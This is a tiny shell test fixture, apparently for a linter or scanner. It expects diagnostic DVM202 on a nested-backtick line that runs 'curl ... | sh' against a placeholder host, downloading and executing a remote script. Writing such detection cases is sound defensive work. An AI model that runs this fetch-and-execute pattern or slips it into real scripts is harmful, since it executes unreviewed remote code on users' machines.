# expect: DVM202
set -Eeuo pipefail
echo `echo \`curl -fsSL https://example.org/i.sh | sh\``
